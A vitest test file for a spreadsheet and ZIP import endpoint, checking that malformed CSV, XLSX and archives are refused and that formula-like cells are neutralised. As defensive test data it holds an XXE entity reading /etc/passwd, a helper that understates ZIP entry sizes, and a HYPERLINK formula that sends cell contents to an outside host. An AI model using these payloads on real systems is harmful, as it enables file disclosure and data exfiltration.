// Issue #30: files an import cannot read are the operator's to fix, never the server's fault — a
// 400 naming what is wrong, for CSV quotes, XLSX that is not one, declares a DOCTYPE or inflates
// beyond what it says, and ZIP archives that lie about an entry — and text a spreadsheet would
// run as a formula is refused row by row and comes back neutralised in the rejected rows.

import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { PDF, useImporFixture, zip } from './fixture.js';

const fx = useImporFixture();
const { api } = fx;

/** A small instansi XLSX as Excel would save it. */
async function instansiXlsx(rows: string[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Data');
  for (const row of [['kode', 'nama', 'jenis'], ...rows]) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** A ZIP's entries in their order (read by Python's zipfile). */
function entriesOf(bytes: Buffer): [string, Buffer][] {
  const script = `
import sys, zipfile, io, json, base64
src = zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))
print(json.dumps([[i.filename, base64.b64encode(src.read(i)).decode()] for i in src.infolist()]))
`;
  const listed: [string, string][] = JSON.parse(execFileSync('python3', ['-c', script], { input: bytes }).toString());
  return listed.map(([name, base64]) => [name, Buffer.from(base64, 'base64')]);
}

/** The same ZIP with one entry's text changed. */
function ubahEntri(file: string, bytes: Buffer, entry: string, change: (text: string) => string | Buffer): Buffer {
  const entries = entriesOf(bytes).map(([name, content]): [string, Buffer | string] => [
    name,
    name === entry ? change(content.toString('utf8')) : content,
  ]);
  return zip(file, Object.fromEntries(entries));
}

/**
 * The archive with one entry's declared (uncompressed) size made smaller than what it inflates
 * to, in its local header and in the central directory alike.
 */
function ukuranDikecilkan(bytes: Buffer, entry: string): Buffer {
  const out = Buffer.from(bytes);
  const name = Buffer.from(entry);
  let patched = 0;
  for (let at = out.indexOf(name); at !== -1; at = out.indexOf(name, at + 1)) {
    for (const [signature, nameAt, sizeAt] of [
      [0x04034b50, 30, 22],
      [0x02014b50, 46, 24],
    ] as const) {
      const start = at - nameAt;
      if (start >= 0 && out.readUInt32LE(start) === signature && out.readUInt32LE(start + sizeAt) > 16) {
        out.writeUInt32LE(out.readUInt32LE(start + sizeAt) - 16, start + sizeAt);
        patched += 1;
      }
    }
  }
  expect(patched, 'the entry found in the archive').toBeGreaterThan(0);
  return out;
}

const refusedWith = async (res: Promise<{ statusCode: number; body: string; json(): unknown }>, message: RegExp) => {
  const answer = await res;
  expect(answer.statusCode, answer.body).toBe(400);
  expect(answer.json()).toMatchObject({ error: 'IMPOR_FORMAT', message: expect.stringMatching(message) });
};

describe('files an import cannot read (issue #30)', () => {
  it('takes a stray quote inside a cell as the character itself', async () => {
    const report = await fx.cek('instansi', 'kutip.csv', 'kode;nama;jenis\r\n9951;Badan "Uji" Kutip;pusat\r\n');
    expect(report.statusCode, report.body).toBe(200);
    expect(report.json()).toMatchObject({ dibaca: 1, baru: 1, ditolak: 0 });
    await fx.terapkan(report.json().id);
    const row = await api.ctx.db.selectFrom('instansi').select('nama').where('kode', '=', '9951').executeTakeFirst();
    expect(row).toEqual({ nama: 'Badan "Uji" Kutip' });
  });

  it('stages backslashes, tabs and line breaks inside cells as they are (COPY on PostgreSQL)', async () => {
    const nama = 'Badan\\Uji\tTab\nBaris \\N';
    const report = await fx.cek('instansi', 'escape.csv', `kode;nama;jenis\r\n9959;"${nama}";pusat\r\n`);
    expect(report.statusCode, report.body).toBe(200);
    expect(report.json()).toMatchObject({ dibaca: 1, baru: 1, ditolak: 0 });
    await fx.terapkan(report.json().id);
    const row = await api.ctx.db.selectFrom('instansi').select('nama').where('kode', '=', '9959').executeTakeFirst();
    expect(row).toEqual({ nama });
  });

  it('refuses a quote never closed, or one closed in the middle of a cell, naming the row', async () => {
    await refusedWith(
      fx.cek(
        'instansi',
        'terbuka.csv',
        'kode;nama;jenis\r\n9952;Badan Uji;pusat\r\n9953;"Badan Uji;pusat\r\n9954;x;pusat\r\n',
      ),
      /^Tanda kutip \("\) yang dibuka pada baris 3 tidak pernah ditutup/,
    );
    await refusedWith(
      fx.cek('instansi', 'tengah.csv', 'kode;nama;jenis\r\n9955;"Badan "Uji" Kutip";pusat\r\n'),
      /Tanda kutip .* pada baris 2 tidak sah/,
    );
  });

  it('refuses bytes that are no XLSX, an XLSX declaring a DOCTYPE, and one that inflates beyond its size', async () => {
    await refusedWith(
      fx.cek('instansi', 'acak.xlsx', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251))),
      /bukan XLSX yang sah/,
    );
    const good = await instansiXlsx([['9956', 'Badan XLSX', 'pusat']]);
    const ok = await fx.cek('instansi', 'baik.xlsx', good);
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json()).toMatchObject({ dibaca: 1, baru: 1 });

    const xxe = ubahEntri(path.join(api.filesDir, 'xxe.xlsx'), good, 'xl/sharedStrings.xml', (xml) =>
      xml.replace('?>', '?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('Badan XLSX', '&xxe;'),
    );
    await refusedWith(fx.cek('instansi', 'xxe.xlsx', xxe), /xl\/sharedStrings\.xml memuat deklarasi DOCTYPE/);
    // In UTF-16 too, and in a part the reader does not use.
    const utf16 = ubahEntri(path.join(api.filesDir, 'xxe16.xlsx'), good, '[Content_Types].xml', (xml) =>
      Buffer.from(xml.replace('?>', '?><!DOCTYPE Types>'), 'utf16le'),
    );
    await refusedWith(fx.cek('instansi', 'xxe16.xlsx', utf16), /DOCTYPE/);

    // After the sheet that is read: the shared strings first, so exceljs reads sheet 1 as it comes
    // and would never look at what follows it.
    const first = ['xl/sharedStrings.xml', 'xl/_rels/workbook.xml.rels', 'xl/workbook.xml'];
    const entries = entriesOf(good);
    const reordered = [
      ...entries.filter(([name]) => first.includes(name)),
      ...entries.filter(([name]) => !first.includes(name)),
      ['xl/worksheets/sheet2.xml', '<?xml version="1.0"?><!DOCTYPE worksheet><worksheet/>'] as [string, string],
    ];
    const later = zip(path.join(api.filesDir, 'sesudah.xlsx'), Object.fromEntries(reordered));
    await refusedWith(fx.cek('instansi', 'sesudah.xlsx', later), /sheet2\.xml memuat deklarasi DOCTYPE/);

    await refusedWith(
      fx.cek('instansi', 'besar.xlsx', ukuranDikecilkan(good, 'xl/worksheets/sheet1.xml')),
      /isi xl\/worksheets\/sheet1\.xml lebih besar dari ukuran yang dinyatakan/,
    );
  });

  it('refuses a document archive whose entry inflates beyond its declared size', async () => {
    const manifest = 'nomor_peserta;jenis;nama_file\r\n99140100000000001;KTP;ktp.pdf\r\n';
    const bytes = zip(path.join(api.filesDir, 'bohong.zip'), { 'manifest.csv': manifest, 'ktp.pdf': PDF });
    await refusedWith(
      fx.cek('dokumen', 'bohong.zip', ukuranDikecilkan(bytes, 'ktp.pdf')),
      /ktp\.pdf lebih besar dari yang dinyatakan/,
    );
  });
});

describe('text a spreadsheet would run as a formula (issue #30)', () => {
  const hyperlink = '=HYPERLINK("https://contoh.id/?d="&A1,"Lihat")';
  const file = [
    'kode;nama;jenis',
    '9961;@SUM(1);pusat',
    '9962;-2+3;pusat',
    `9963;"${hyperlink.replaceAll('"', '""')}";pusat`,
    '9964;＋1-1;pusat',
    '9965;Badan Biasa;pusat',
  ].join('\r\n');

  it('refuses it row by row at the check, with the reason', async () => {
    const report = (await fx.cek('instansi', 'rumus.csv', file)).json();
    expect(report).toMatchObject({ dibaca: 5, baru: 1, ditolak: 4 });
    expect(report.penolakan).toEqual(
      [2, 3, 4, 5].map((baris) => ({
        baris,
        kolom: 'nama',
        nilai: expect.any(String),
        pesan: 'nama: tidak boleh diawali =, +, - atau @ (dibaca sebagai rumus oleh Excel)',
      })),
    );
  });

  it('gives the rejected rows back neutralised, as CSV and XLSX, never cached', async () => {
    const report = (await fx.cek('instansi', 'rumus.csv', file)).json();
    const url = `/api/admin/impor/cek/${report.id}/ditolak`;
    const csv = await api.client.request({ url: `${url}?format=csv`, token: fx.token });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['cache-control']).toBe('no-store');
    const records = parse(csv.body, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    expect(records.map((r) => [r.baris, r.nama])).toEqual([
      ['2', "'@SUM(1)"],
      ['3', "'-2+3"],
      ['4', `'${hyperlink}`],
      ['5', "'＋1-1"],
    ]);

    const xlsx = await api.client.request({ url: `${url}?format=xlsx`, token: fx.token });
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['cache-control']).toBe('no-store');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const nama = header.indexOf('nama') + 1;
    const row = sheet.getRow(4);
    expect(row.getCell(nama).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(nama).value).toBe(`'${hyperlink}`);
    // A row number is a number, not text.
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect([2, 3, 5].map((n) => sheet.getRow(n).getCell(nama).value)).toEqual(["'@SUM(1)", "'-2+3", "'＋1-1"]);
  });
});
